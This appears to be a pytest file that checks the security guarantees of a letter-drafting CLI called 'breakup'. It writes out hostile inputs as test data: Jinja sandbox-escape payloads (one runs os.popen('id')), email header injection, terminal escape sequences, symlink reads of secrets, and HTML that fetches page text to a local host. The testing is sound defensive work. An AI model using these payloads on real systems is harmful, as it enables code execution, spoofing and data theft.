"""The threat model, promise by promise, as the README's Security section states it.

Each test class is one promise; each test, one way to break it. The attacker controls the
client data (options, a spreadsheet, the profile's text) and the user templates (--templates);
they do not control breakup's own templates and catalogs.
"""

from __future__ import annotations

import dataclasses
import email
import email.policy
import json
import os
import socket
import stat
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import DATA, TODAY
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from breakup import registry
from breakup.cli import cli
from breakup.errors import InputError, OutputError, TemplateError
from breakup.facts import FACTS as FACT_LIST
from breakup.models import ClientFacts, Profile, Sender
from breakup.publish import publish
from breakup.render import render

PROFILE = ["--profile", str(DATA / "profile.toml")]


def overlay(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "mine"
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


def one_error(result: Any) -> str:
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and "Traceback" not in result.output, result.output
    return errors[0]


class TestClientDataIsData:
    """Values are never evaluated as templates; escaped in HTML and Markdown; stripped of
    control and bidi characters; line breaks refused where a value must be one line."""

    def test_a_value_is_never_evaluated(self) -> None:
        facts = ClientFacts(
            client="{{ 7*7 }}{% raw %}", contact="{{ cycler.__init__ }}", end_date=date(2027, 1, 15)
        )
        for document in ("email", "script", "notes"):
            body = render(document, "late-payer", facts=facts, lang="en", today=TODAY).body
            assert "49" not in body and ("{{ 7*7 }}" in body or document == "email")

    @pytest.mark.parametrize("fmt", ["html", "md"])
    def test_markup_in_a_value_stays_text(self, profile: Profile, fmt: str) -> None:
        facts = ClientFacts(client="<script>alert(1)</script> **bold** [x](http://e)",
                            contact="<b>Ann</b>", end_date=date(2027, 1, 15))  # fmt: skip
        for document in registry.DOCUMENTS:
            body = render(
                document, "diva", facts=facts, profile=profile, lang="en", fmt=fmt, today=TODAY
            ).body
            assert "<script>" not in body and "<b>Ann" not in body
            if fmt == "md":
                assert (
                    "**bold**" not in body
                    and "\\*\\*bold\\*\\*" in body
                    or document in ("email", "referral", "boundaries")
                )

    def test_control_and_bidi_characters_are_removed(self, runner: CliRunner) -> None:
        result = runner.invoke(
            cli,
            ["script", "diva", "--client", "Ac\x1b[31mme\u202e€0001", "--end-date", "2027-01-15"],
        )
        assert result.exit_code == 0
        assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
        assert "Ac[31mme€0001" in result.stdout

    def test_invisible_characters_are_removed(self, runner: CliRunner) -> None:
        hidden = "\u200bA\u00adc\u200e\u061cm\u2060e\ufeff\U000e0041\U000e007f Co"
        result = runner.invoke(cli, ["script", "diva", "--client", hidden])
        assert result.exit_code == 0 and "Acme Co" in result.stdout

    MARKDOWN = ["a &amp; b", "1. x", "2) y", "+ plus", "- dash", "---", "===", "# h", "> q"]

    @pytest.mark.parametrize("value", MARKDOWN)
    def test_markdown_shows_a_value_as_typed(self, value: str) -> None:
        """Read by a CommonMark reader, a value is its text: no entity, list, rule or heading."""
        markdown_it = pytest.importorskip("markdown_it")
        from html import escape

        from breakup.registry import md_escape

        reader = markdown_it.MarkdownIt("commonmark")
        for line in (md_escape(value), f"Notes:\n{md_escape(value)}", f"- {md_escape(value)}"):
            rendered = reader.render(line)
            assert rendered.count("<p>") + rendered.count("<li>") == 1, rendered
            assert escape(value, quote=False) in rendered, rendered

    @pytest.mark.parametrize(
        "name", [f.name for f in FACT_LIST if f.kind == "text" and f.name != "greeting"]
    )
    def test_every_text_fact_is_data_in_every_document(self, profile: Profile, name: str) -> None:
        """Each text fact (the contact hours too) as template syntax, markup and control
        characters: shown as typed, escaped in HTML, never run, without the controls."""
        value = "{{ 7*7 }}<b>x</b>\x1b[31m\u202e"
        facts = dataclasses.replace(
            ClientFacts(end_date=date(2027, 1, 15), work=("w",)), **{name: value}
        )
        # A service no provider offers leaves nobody to recommend: the referral letter (and
        # the heads-up) are refused, which is their own test.
        documents = [d for d in registry.DOCUMENTS
                     if name != "service" or d not in ("referral", "heads-up")]  # fmt: skip
        for archetype in ("diva", "word-breaker"):
            for document in documents:
                for fmt in ("html", "text"):
                    body = render(document, archetype, facts=facts, profile=profile, lang="en",
                                  fmt=fmt, today=TODAY).body  # fmt: skip
                    assert "49" not in body and "\x1b" not in body and "\u202e" not in body
                    assert "<b>x" not in body or fmt == "text"

    @pytest.mark.parametrize(
        "option", ["--client", "--contact", "--service", "--greeting", "--contact-hours"]
    )
    def test_a_line_break_is_refused(self, runner: CliRunner, option: str) -> None:
        result = runner.invoke(cli, ["email", "diva", option, "Acme\nBcc: x@example.com"])
        assert result.exit_code == 2 and "single line" in one_error(result)


class TestEmailHeaders:
    """Every header value is literal text: breakup encodes it and never decodes it, so no value
    can add a header; lines stay short; addresses are checked."""

    ATTACK = "=?utf-8?q?=0D=0ABcc:_someone@example.com?="

    def _draft(self, **facts: Any) -> email.message.EmailMessage:
        profile = Profile(sender=Sender(name=facts.pop("sender", "Ann"), email="ann@example.com"))
        base = {
            "client": "Acme",
            "contact": "Bo",
            "client_email": "bo@example.com",
            "end_date": date(2027, 1, 15),
        }
        out = publish("email", "diva", "eml", facts=ClientFacts(**{**base, **facts}),
                      profile=profile, lang="en", today=TODAY)  # fmt: skip
        for line in out.data.split(b"\r\n"):
            assert len(line) <= 998
        return email.message_from_bytes(out.data, policy=email.policy.default)  # type: ignore[return-value]

    @pytest.mark.parametrize("field", ["contact", "sender"])
    def test_an_encoded_word_cannot_add_a_header(self, field: str) -> None:
        message = self._draft(**{field: self.ATTACK})
        assert "Bcc" not in message and "Cc" not in message
        shown = str(message["To"] if field == "contact" else message["From"])
        assert self.ATTACK in shown

    def test_header_lines_are_short(self) -> None:
        message = self._draft(contact="Ñ" * 400)
        raw = message.as_bytes()
        head = raw.split(b"\r\n\r\n" if b"\r\n\r\n" in raw else b"\n\n", 1)[0]
        assert all(len(line) <= 78 for line in head.splitlines())

    @pytest.mark.parametrize(
        "address", ["a@x..com", ".a@x.com", "a.@x.com", "a@-x.com", "a b@x.com", "josé@x.com"]
    )
    def test_invalid_addresses_are_refused(self, runner: CliRunner, address: str) -> None:
        result = runner.invoke(cli, ["email", "diva", "--client-email", address, "-f", "eml"])
        assert result.exit_code == 2 and address in one_error(result)

    def test_an_international_domain_is_written_as_idna(self) -> None:
        message = self._draft(client_email="ana@münchen.de")
        assert "xn--mnchen-3ya.de" in str(message["To"])


def parse_draft(path: Path) -> email.message.EmailMessage:
    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    return message  # type: ignore[return-value]


class TestTheHeadsUpGoesToTheProvider:
    """The heads-up tells a provider, in confidence, why the client is leaving: as a mail
    draft it is addressed to that provider, one draft each, and never to the client."""

    CLIENT = ["--client", "Acme", "--contact", "Bo", "--client-email", "bo@acme.example"]

    @staticmethod
    def _body(message: email.message.EmailMessage) -> str:
        return str(message.get_body(("plain",)).get_content())  # type: ignore[union-attr]

    def test_one_provider_gets_the_draft_named_by_o(self, runner: CliRunner) -> None:
        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, *PROFILE,
                                     "--service", "web design", "-o", "h.eml"])  # fmt: skip
        assert result.exit_code == 0, result.output
        message = parse_draft(Path("h.eml"))
        assert message["To"] == "Jorge Salas <jorge@salasdigital.es>"
        assert "acme.example" not in message.as_string()
        body = self._body(message)
        assert body.startswith("Hi Jorge,") and "To:" not in body and "Ana" not in body

    def test_each_provider_gets_a_draft_of_their_own(self, runner: CliRunner) -> None:
        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, *PROFILE, "-o", "h.eml"])
        assert result.exit_code == 0, result.output
        assert not Path("h.eml").exists()
        jorge, ana = parse_draft(Path("h-jorge-salas.eml")), parse_draft(Path("h-ana-ruiz.eml"))
        assert jorge["To"] == "Jorge Salas <jorge@salasdigital.es>"
        assert ana["To"] == "Ana Ruiz <ana@nortebranding.com>"
        assert self._body(ana).startswith("Hi Ana,") and "Jorge" not in self._body(ana)
        for message in (jorge, ana):
            assert "acme.example" not in message.as_string()

    def test_several_drafts_need_a_file_name(self, runner: CliRunner) -> None:
        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, *PROFILE, "-f", "eml"])
        assert result.exit_code == 2 and result.stdout == ""
        assert "one draft each: give -o FILE.eml" in one_error(result)

    def test_a_provider_without_an_email_gets_a_draft_without_to(self, runner: CliRunner) -> None:
        Path("p.toml").write_text(
            '[sender]\nname = "Ann"\nemail = "ann@example.com"\n'
            '[[referrals]]\nname = "Jo Lee"\nservices = ["web"]\nagreed = true\n',
            encoding="utf-8",
        )
        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, "--profile", "p.toml",
                                     "-o", "h.eml"])  # fmt: skip
        assert result.exit_code == 0, result.output
        message = parse_draft(Path("h.eml"))
        assert message["To"] is None and "acme.example" not in message.as_string()
        assert "email in the provider's [[referrals]] table" in result.stderr

    def test_in_a_batch_each_provider_gets_a_draft(self, runner: CliRunner) -> None:
        Path("c.csv").write_text(
            "archetype,client,contact,client_email,service\n"
            "diva,Acme,Bo,bo@acme.example,\ndiva,Beta,Cy,cy@beta.example,branding\n",
            encoding="utf-8",
        )
        result = runner.invoke(cli, ["batch", "c.csv", "-o", "out", "--only", "heads-up",
                                     "-f", "eml", *PROFILE])  # fmt: skip
        assert result.exit_code == 0, result.output
        drafts = sorted(Path("out").glob("*/*.eml"))
        assert [f"{p.parent.name}/{p.name}" for p in drafts] == [
            "acme/heads-up-ana-ruiz.eml", "acme/heads-up-jorge-salas.eml",
            "beta/heads-up-ana-ruiz.eml",
        ]  # fmt: skip
        for path in drafts:
            message = parse_draft(path)
            assert path.stem.split("-", 2)[2].split("-")[0] in str(message["To"]).lower()
            assert "example" not in str(message["To"])

    def test_the_library_never_addresses_one_draft_to_several(self, profile: Profile) -> None:
        from breakup.publish import drafts

        facts = ClientFacts(client="Acme", client_email="bo@acme.example")
        with pytest.raises(InputError, match="goes to 2 providers, one draft each"):
            publish("heads-up", "diva", "eml", facts=facts, profile=profile, lang="en")
        found = drafts("heads-up", "diva", "eml", facts=facts, profile=profile, lang="en")
        assert [key for key, _out in found] == ["jorge-salas", "ana-ruiz"]
        assert all(b"acme.example" not in out.data for _key, out in found)


class TestFiles:
    """Files are written whole and private; an existing file is replaced only with --force, and
    never when it is a device, a FIFO, a socket, a folder or a dangling link (nor a link to
    anything but a regular file); a kit is written all or none."""

    def test_a_document_is_private(self, runner: CliRunner) -> None:
        runner.invoke(cli, ["email", "diva", "-o", "out.txt"])
        assert stat.S_IMODE(os.stat("out.txt").st_mode) == 0o600

    def test_an_existing_file_is_kept(self, runner: CliRunner) -> None:
        Path("out.txt").write_text("mine", encoding="utf-8")
        result = runner.invoke(cli, ["email", "diva", "-o", "out.txt"])
        assert result.exit_code == 1 and "already exists" in one_error(result)
        assert Path("out.txt").read_text(encoding="utf-8") == "mine"

    def test_force_never_replaces_a_fifo(self, runner: CliRunner) -> None:
        os.mkfifo("pipe.txt")
        result = runner.invoke(cli, ["email", "diva", "-o", "pipe.txt", "--force"])
        assert result.exit_code == 1 and "not a regular file" in one_error(result)
        assert stat.S_ISFIFO(os.lstat("pipe.txt").st_mode)

    @pytest.mark.parametrize("kind", ["dangling", "folder", "fifo", "loop"])
    @pytest.mark.parametrize("command", ["email", "kit", "batch"])
    def test_force_never_replaces_a_link_to_no_regular_file(
        self, runner: CliRunner, tmp_path: Path, kind: str, command: str
    ) -> None:
        """A dangling link, or a link to a folder or a FIFO, stays as it is, even with --force;
        the document is not written through it either."""
        where = {"email": Path("email.txt"), "kit": Path("kit/email.txt"),
                 "batch": Path("out/acme/email.txt")}[command]  # fmt: skip
        target = tmp_path / "elsewhere"
        if kind == "folder":
            target.mkdir()
        elif kind == "fifo":
            os.mkfifo(target)
        elif kind == "loop":
            target = where
        Path("clients.csv").write_text("archetype,client\ndiva,Acme\n", encoding="utf-8")
        if command == "batch":  # the row's folder first, as an earlier run leaves it
            assert runner.invoke(cli, ["batch", "clients.csv", "-o", "out"]).exit_code == 0
            where.unlink()
        where.parent.mkdir(exist_ok=True)
        os.symlink(target, where)
        args = {"email": ["email", "diva", "-o", str(where)], "kit": ["kit", "diva", "-o", "kit"],
                "batch": ["batch", "clients.csv", "-o", "out"]}[command]  # fmt: skip
        result = runner.invoke(cli, [*args, "--force"])
        assert result.exit_code == 1, result.output
        assert "symbolic link to" in result.stderr and "--force" in result.stderr
        assert os.readlink(where) == str(target)
        assert kind != "folder" or not any(target.iterdir())

    @pytest.mark.parametrize("command", ["email", "kit", "batch"])
    def test_force_replaces_a_link_to_a_file_never_writing_through_it(
        self, runner: CliRunner, tmp_path: Path, command: str
    ) -> None:
        where = {"email": Path("email.txt"), "kit": Path("kit/email.txt"),
                 "batch": Path("out/acme/email.txt")}[command]  # fmt: skip
        target = tmp_path / "elsewhere.txt"
        target.write_text("theirs", encoding="utf-8")
        Path("clients.csv").write_text("archetype,client\ndiva,Acme\n", encoding="utf-8")
        if command == "batch":
            assert runner.invoke(cli, ["batch", "clients.csv", "-o", "out"]).exit_code == 0
            where.unlink()
        where.parent.mkdir(exist_ok=True)
        os.symlink(target, where)
        args = {"email": ["email", "diva", "-o", str(where)], "kit": ["kit", "diva", "-o", "kit"],
                "batch": ["batch", "clients.csv", "-o", "out"]}[command]  # fmt: skip
        result = runner.invoke(cli, [*args, "--force"])
        assert result.exit_code == 0, result.output
        assert not where.is_symlink() and "Dear" in where.read_text(encoding="utf-8")
        assert target.read_text(encoding="utf-8") == "theirs"

    def test_a_dangling_symlink_is_not_followed(self, runner: CliRunner, tmp_path: Path) -> None:
        target = tmp_path / "elsewhere.toml"
        os.symlink(target, "breakup.toml")
        runner.invoke(cli, ["init", "--no-input"])
        assert not target.exists()

    def test_a_kit_is_written_all_or_none(
        self, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from breakup import output

        calls = {"n": 0}
        real = output._temporary

        def full_disk(path: Path, data: bytes) -> str:
            calls["n"] += 1
            if calls["n"] == 3:
                raise OSError(28, "No space left on device")
            return real(path, data)

        monkeypatch.setattr(output, "_temporary", full_disk)
        result = runner.invoke(cli, ["kit", "diva", "-o", "kit", *PROFILE])
        assert result.exit_code == 1 and "No space left" in one_error(result)
        assert not Path("kit").exists() or not any(Path("kit").iterdir())

    @pytest.mark.parametrize("command", ["kit", "batch", "email"])
    def test_folders_made_for_the_output_are_private_whatever_the_umask(
        self, runner: CliRunner, command: str
    ) -> None:
        """A kit's folder, a batch's, and the folders -o makes are 0700 like a row's folder,
        even under umask 000 (the files in them are 0600)."""
        Path("clients.csv").write_text("archetype,client\ndiva,Acme\n", encoding="utf-8")
        args = {"kit": ["kit", "diva", "-o", "made/kit"],
                "batch": ["batch", "clients.csv", "-o", "made/out"],
                "email": ["email", "diva", "-o", "made/letters/email.txt"]}[command]  # fmt: skip
        previous = os.umask(0)
        try:
            result = runner.invoke(cli, args)
        finally:
            os.umask(previous)
        assert result.exit_code == 0, result.output
        folders = [p for p in Path("made").rglob("*") if p.is_dir()] + [Path("made")]
        assert len(folders) >= 2
        assert {stat.S_IMODE(p.stat().st_mode) for p in folders} == {0o700}
        assert {stat.S_IMODE(p.stat().st_mode) for p in Path("made").rglob("*.txt")} == {0o600}

    @pytest.mark.parametrize(
        "name",
        ["x.zip", "x.exe", "x.png", "x.jpg", "x.tar.gz", "x.py", "x.sh", "x.json", "x.toml",
         "x.xlsx", "x.mp4", "x.bat", "x.svg", "x.DOCX"],
    )  # fmt: skip
    def test_a_name_whose_extension_breakup_does_not_write_is_refused(
        self, runner: CliRunner, name: str
    ) -> None:
        result = runner.invoke(cli, ["email", "diva", "-o", name])
        assert result.exit_code == 2
        assert "give -o a file name ending in .txt" in one_error(result)
        assert not Path(name).exists()
        result = runner.invoke(cli, ["kit", "diva", "-o", name])
        assert result.exit_code == 2 and "looks like a file name" in one_error(result)
        assert not Path(name).exists()

    def test_output_names_that_promise_another_format_are_refused(self, runner: CliRunner) -> None:
        result = runner.invoke(cli, ["email", "diva", "-o", "letter.docx"])
        assert result.exit_code == 2 and ".docx" in one_error(result)
        result = runner.invoke(cli, ["kit", "diva", "-o", "acme.pdf"])
        assert result.exit_code == 2 and "looks like a file name" in one_error(result)


class TestTemplatesStayInTheirFolder:
    """A template is read from inside its folder only: no symbolic link (even one swapped in
    while it is read), no hard link to another file, nothing but a regular file, at most
    1 MB."""

    def test_a_symlinked_template_file(self, tmp_path: Path, runner: CliRunner) -> None:
        secret = tmp_path / "secret.txt"
        secret.write_text("TOP SECRET", encoding="utf-8")
        root = overlay(tmp_path, {})
        (root / "documents").mkdir(parents=True)
        os.symlink(secret, root / "documents" / "email.j2")
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
        assert "TOP SECRET" not in result.output and result.exit_code == 2
        assert "outside the templates folder" in one_error(result)

    def test_a_symlinked_documents_folder(self, tmp_path: Path, runner: CliRunner) -> None:
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        (elsewhere / "email.j2").write_text("TOP SECRET", encoding="utf-8")
        root = overlay(tmp_path, {})
        root.mkdir()
        os.symlink(elsewhere, root / "documents")
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
        assert "TOP SECRET" not in result.output and result.exit_code == 2
        assert "documents is a symbolic link" in one_error(result)

    def test_a_link_swapped_in_while_reading_is_never_followed(self, tmp_path: Path) -> None:
        """The check and the read are one: a template swapped for a link to a file outside,
        over and over while it is read, is never read through the link."""
        import threading

        from breakup import catalog

        secret = tmp_path / "secret.txt"
        secret.write_text("TOP SECRET", encoding="utf-8")
        root = overlay(tmp_path, {"documents/email.j2": "SAFE"})
        folder = root / "documents"
        env = catalog.environment("en", "US", "formal", False, root)
        stop = threading.Event()

        def swap() -> None:
            while not stop.is_set():
                (folder / ".a").write_text("SAFE", encoding="utf-8")
                os.replace(folder / ".a", folder / "email.j2")
                os.symlink(secret, folder / ".b")
                os.replace(folder / ".b", folder / "email.j2")

        swapper = threading.Thread(target=swap)
        swapper.start()
        seen = set()
        try:
            for _ in range(3000):
                try:
                    seen.add(env.loader.get_source(env, "documents/email.j2")[0])
                except (TemplateError, OSError):
                    seen.add("refused")
        finally:
            stop.set()
            swapper.join()
        assert "TOP SECRET" not in seen and "SAFE" in seen

    def test_a_hard_link_to_a_file_outside(self, tmp_path: Path, runner: CliRunner) -> None:
        secret = tmp_path / "secret.txt"
        secret.write_text("TOP SECRET", encoding="utf-8")
        root = overlay(tmp_path, {})
        (root / "documents").mkdir(parents=True)
        os.link(secret, root / "documents" / "email.j2")
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
        assert "TOP SECRET" not in result.output and result.exit_code == 2
        assert "other hard links" in one_error(result)

    @pytest.mark.parametrize("kind", ["fifo", "folder"])
    def test_a_template_that_is_not_a_file_is_refused(
        self, tmp_path: Path, runner: CliRunner, kind: str
    ) -> None:
        """Never silently replaced by the built-in template of the same name."""
        root = overlay(tmp_path, {})
        (root / "documents").mkdir(parents=True)
        target = root / "documents" / "email.j2"
        target.mkdir() if kind == "folder" else os.mkfifo(target)
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
        assert result.exit_code == 2 and "Dear" not in result.stdout
        assert "not a regular file" in one_error(result)

    def test_a_huge_template_is_refused_before_it_is_read(
        self, tmp_path: Path, runner: CliRunner
    ) -> None:
        root = overlay(tmp_path, {})
        (root / "documents").mkdir(parents=True)
        with open(root / "documents" / "email.j2", "wb") as sparse:
            sparse.truncate(3 * 2**30)  # 3 GB, and no disk space taken
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
        assert result.exit_code == 2 and "larger than 1000 KB" in one_error(result)

    def test_a_symlinked_archetype_folder(self, tmp_path: Path, runner: CliRunner) -> None:
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        (elsewhere / "archetype.j2").write_text("{% set description = 'x' %}", encoding="utf-8")
        root = overlay(tmp_path, {})
        (root / "archetypes").mkdir(parents=True)
        os.symlink(elsewhere, root / "archetypes" / "sneaky")
        result = runner.invoke(cli, ["archetypes", "--ids", "--templates", str(root)])
        assert "sneaky" not in result.stdout


class TestUserTemplatesAreSandboxed:
    """User templates cannot reach Python internals or the system, and every evaluation is
    bounded in time, memory and output, in every command."""

    @pytest.mark.parametrize(
        "body",
        [
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ self._TemplateReference__context }}",
        ],
    )
    def test_internals_are_refused(self, tmp_path: Path, runner: CliRunner, body: str) -> None:
        root = overlay(tmp_path, {"documents/email.j2": body})
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
        assert result.exit_code == 2 and "uid=" not in result.output
        one_error(result)

    def test_an_endless_loop_in_an_archetype_under_rehearse(
        self, tmp_path: Path, runner: CliRunner
    ) -> None:
        from breakup import resources

        text = (resources.templates_dir() / "archetypes/diva/archetype.j2").read_text(
            encoding="utf-8"
        )
        loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
        root = overlay(tmp_path, {"archetypes/slow/archetype.j2": loop + text})
        result = runner.invoke(cli, ["rehearse", "slow", "--templates", str(root)], input="ok\n")
        assert result.exit_code == 2 and "longer than" in one_error(result)


class TestProfile:
    """Every profile value is checked as strictly as the option it stands for."""

    @pytest.mark.parametrize(
        ("text", "message"),
        [
            ('[defaults]\ncurrency = "EUR1"\n', "unknown currency 'EUR1'"),
            ('[defaults]\ncurrency = "\u202eEUR"\n', "unknown currency"),
            ('[defaults]\nlang = "klingon"\n', "not a known language"),
            ('[sender]\nname = "Ann\\nBcc: x@y.com"\n', "single line"),
            ('[sender]\nemail = "a@x..com"\n', "invalid email address"),
            ('[sender]\nvoice = "they"\n', 'voice must be "I" or "we"'),
            ('[defaults]\ntax = "maybe"\n', 'tax must be "included" or "excluded"'),
            ('[defaults]\ncurrency = "XXX"\n', "unknown currency 'XXX'"),
            ("a = " + "[" * 5000 + "]" * 5000 + "\n", "nested too deeply"),
        ],
    )
    def test_bad_values(self, runner: CliRunner, text: str, message: str) -> None:
        Path("p.toml").write_text(text, encoding="utf-8")
        result = runner.invoke(cli, ["email", "diva", "--profile", "p.toml"])
        assert result.exit_code == 2 and message in one_error(result)

    def test_a_bom_is_accepted(self, runner: CliRunner) -> None:
        Path("p.toml").write_bytes(b'\xef\xbb\xbf[sender]\nname = "Ann"\n')
        result = runner.invoke(cli, ["email", "diva", "--profile", "p.toml"])
        assert result.exit_code == 0 and "Ann" in result.stdout


ESCAPES = "\x1b]0;PWNED\x07\x1b]52;c;aWQK\x07\x9b31m"


class TestTerminalOutput:
    """Names and texts from the user's files (archetype folders and descriptions, draft file
    names) are printed with their control characters escaped: none can move the cursor, set
    the title or the clipboard (OSC), or forge a line of its own."""

    def _forged(self, tmp_path: Path) -> Path:
        readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
        own = readme.split("## Your own templates", 1)[1].split("```jinja\n", 1)[1]
        own = own.split("```", 1)[0]
        described = own.replace(
            '{% set description = "', '{% set description = "' + ESCAPES + "\nError: forged "
        )
        root = overlay(tmp_path, {"archetypes/esc/archetype.j2": described})
        (root / "archetypes" / "bad\nError: fake line").mkdir()
        (root / "archetypes" / "bad\nError: fake line" / "archetype.j2").write_text(own, "utf-8")
        return root

    @staticmethod
    def _clean(text: str) -> None:
        assert not any(c in text for c in "\x1b\x07\x9b")
        assert not any(line.startswith("Error: f") for line in text.splitlines())

    @pytest.mark.parametrize("command", [["email", "diva"], ["kit", "diva"]])
    def test_the_wrote_line_of_a_file_name_the_user_typed(
        self, tmp_path: Path, runner: CliRunner, command: list[str]
    ) -> None:
        """A red-team finding of round 26: "Wrote FILE" printed an OSC escape of an -o name
        raw (errors already escaped it), and a line break in it made a line of its own."""
        name = "t" + ESCAPES + "\nWrote forged.txt"
        target = tmp_path / (name if command[0] == "email" else "kit" + ESCAPES)
        result = runner.invoke(cli, [*command, "--client", "X", "-o", str(target)])
        assert result.exit_code == 0, result.output
        self._clean(result.output)
        assert not any(line.startswith("Wrote forged") for line in result.output.splitlines())
        assert "\\x1b]0;PWNED" in result.output or "\\x1b" in result.output

    def test_the_archetypes_listing(self, tmp_path: Path, runner: CliRunner) -> None:
        root = self._forged(tmp_path)
        for ids in ([], ["--ids"]):
            result = runner.invoke(cli, ["archetypes", *ids, "--templates", str(root)])
            assert result.exit_code == 0, result.output
            self._clean(result.stdout)
            assert "bad\\nError: fake line" in result.stdout

    def test_decides_menu(self, tmp_path: Path, runner: CliRunner) -> None:
        root = self._forged(tmp_path)
        result = runner.invoke(cli, ["decide", "--templates", str(root)], input="\n" * 20)
        assert "1. bad\\nError: fake line" in result.stderr, result.output
        self._clean(result.stderr)

    @pytest.mark.parametrize("fmt", ["text", "line", "json"])
    def test_draft_file_names_in_checks_report(
        self, tmp_path: Path, runner: CliRunner, fmt: str
    ) -> None:
        names = [f"e{ESCAPES}.txt", "n\nx.txt:9:9: forged\n.txt"]
        for name in names:
            (tmp_path / name).write_text("You never pay.\n", "utf-8")
        result = runner.invoke(cli, ["check", "--lang", "en", "--format", fmt, *names])
        assert result.exit_code == 1, result.output
        self._clean(result.stdout)
        if fmt == "json":
            data = json.loads(result.stdout)
            assert [f["file"] for f in data["files"]] == names  # the same names, escaped
        else:
            assert len(result.stdout.splitlines()) == (4 if fmt == "text" else 2)
            assert all(line.startswith(("e\\x1b]0;", "n\\nx.txt:9:9: forged\\n.txt:"))
                       for line in result.stdout.splitlines())  # fmt: skip

    def test_a_name_in_a_warning(self, capsys: pytest.CaptureFixture[str]) -> None:
        from breakup.cli import warn

        warn(f"{ESCAPES}\nError: forged")
        err = capsys.readouterr().err
        assert err.startswith("Warning: ") and len(err.splitlines()) == 1
        self._clean(err)

    def test_a_name_in_an_error_line(self, runner: CliRunner) -> None:
        result = runner.invoke(cli, ["check", f"x{ESCAPES}\nError: forged"])
        assert result.exit_code == 2 and len(result.stderr.splitlines()) == 1
        self._clean(result.stderr)

    @pytest.mark.parametrize("client", [f"A{ESCAPES}", "X\r\nrow 9 (Evil): forged"])
    def test_a_client_name_in_a_batch_failure(
        self, runner: CliRunner, tmp_path: Path, client: str
    ) -> None:
        """A row's client name is shown in its failure line: escaped, one line per row (a
        red-team finding: the escape set the window title, the line break forged a row)."""
        clients = tmp_path / "clients.csv"
        quoted = client.replace('"', '""')
        clients.write_text(f'client,archetype\n"{quoted}",bogus\n', encoding="utf-8")
        result = runner.invoke(cli, ["batch", str(clients), "-o", str(tmp_path / "out"),
                                     "--only", "email"])  # fmt: skip
        assert result.exit_code == 1
        rows = [line for line in result.stderr.splitlines() if line.startswith("row ")]
        assert len(rows) == 1 and rows[0].startswith("row 2 (")
        self._clean(result.stderr)


HOSTILE_HTML = {
    "script": '<script>fetch("http://127.0.0.1:9/x?d=" + document.body.innerText)</script>',
    "pixel": '<img src="http://127.0.0.1:9/px.png?c={{ client.name|urlencode }}">',
    "handler": '<img src="data:image/png;base64,AA" onerror="fetch(\'http://127.0.0.1:9\')">',
    "css-url": '<p style="background: u\\72l(http://127.0.0.1:9/x)">x</p>',
    "css-import": "<style>@import 'http://127.0.0.1:9/x.css';</style>",
    "javascript-link": '<a href=" java&#9;script:alert(1)">x</a>',
    "refresh": '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">',
    "frame": '<iframe src="http://127.0.0.1:9/"></iframe>',
    "svg": '<svg><image href="http://127.0.0.1:9/x.png"/></svg>',
    "conditional": "<!--[if mso]><img src=http://127.0.0.1:9/x.png><![endif]-->",
}


class TestNothingRunsOrIsFetched:
    """An HTML page or a draft's HTML from user templates holds markup and text only: anything
    that could run or fetch is refused; and every page's policy forbids both."""

    @pytest.mark.parametrize("fmt", ["html", "eml"])
    @pytest.mark.parametrize("snippet", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
    def test_active_content_from_a_template_is_refused(
        self, tmp_path: Path, runner: CliRunner, snippet: str, fmt: str
    ) -> None:
        root = overlay(tmp_path, {"documents/email.j2": "Dear {{ client.contact }},\n" + snippet})
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "--client",
                                     "Golden Fork", "-o", f"out.{fmt}"])  # fmt: skip
        assert result.exit_code == 2 and not Path(f"out.{fmt}").exists()
        assert "could run or fetch something" in one_error(result)

    def test_a_page_override_is_checked_and_gets_the_policy(
        self, tmp_path: Path, runner: CliRunner
    ) -> None:
        from breakup.safehtml import POLICY_META

        plain = "<html><head><title>{{ title }}</title></head><body>{{ content }}</body></html>"
        root = overlay(tmp_path, {"formats/page.j2": plain})
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-o", "a.html"])
        assert result.exit_code == 0, result.output
        assert Path("a.html").read_text("utf-8").startswith(f"<html><head>\n{POLICY_META}<title>")
        sneaky = plain.replace("<head>", "<head><script>x()</script>")
        root = overlay(tmp_path, {"formats/page.j2": sneaky})
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-f", "html"])
        assert result.exit_code == 2 and "<script>" in one_error(result)

    def test_plain_markup_from_a_template_is_kept(self, tmp_path: Path, runner: CliRunner) -> None:
        markup = (
            '<p style="color: #333">Dear {{ client.contact }},</p>'
            '<a href="https://example.com/about">About us</a> <a href="mailto:a@b.co">mail</a>'
            '<img alt="logo" src="data:image/png;base64,iVBORw0KGgo=">'
        )
        root = overlay(tmp_path, {"documents/email.j2": markup})
        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-f", "html"])
        assert result.exit_code == 0, result.output
        assert markup.replace("{{ client.contact }}", "[contact name]") in result.stdout

